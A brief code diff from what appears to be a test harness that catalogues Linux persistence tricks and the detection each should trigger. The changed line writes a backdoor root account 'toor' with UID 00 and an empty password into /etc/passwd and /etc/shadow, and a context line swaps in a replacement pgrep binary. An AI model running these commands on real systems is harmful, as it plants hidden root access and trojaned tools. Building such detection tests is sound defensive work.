@@ -166,7 +166,7 @@ TRICKS = {
         "mv /root/pgrep /usr/bin; " + KILL, SSHD, set(),
     ),
     "uid-double-zero": (
-        "echo 'toor:x:00:0::/:/bin/sh' >>/etc/passwd; echo 'toor:!:1::::::' >>/etc/shadow",
+        "echo 'toor:x:00:0::/:/bin/bash' >>/etc/passwd; echo 'toor:!:1::::::' >>/etc/shadow",
         ACCOUNTS_BACK, set(), {"account-single-root"},
     ),
     "password-in-passwd": (
